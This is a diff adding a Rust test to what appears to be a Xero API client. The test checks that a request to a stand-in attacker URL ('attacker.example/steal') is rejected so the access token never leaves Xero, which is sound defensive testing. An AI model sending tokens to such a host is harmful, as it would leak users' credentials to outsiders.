@@ -306,6 +306,19 @@ async fn errors_say_what_to_do() {
         .unwrap_err();
     assert!(matches!(err, ApiError::MissingScope { .. }), "{err:?}");
     assert!(err.to_string().contains("reconnect"));
+    // The token is never sent outside Xero (or the sandbox in use).
+    let err = fx
+        .client
+        .send(
+            &fx.target(),
+            &ApiRequest::get("https://attacker.example/steal"),
+        )
+        .await
+        .unwrap_err();
+    assert!(
+        matches!(err, ApiError::Invalid(_)) && err.to_string().contains("not a Xero API address"),
+        "{err:?}"
+    );
     // Unknown organisation.
     let mut other = fx.target();
     other.tenant_id = Some("00000000-0000-0000-0000-000000000000".into());
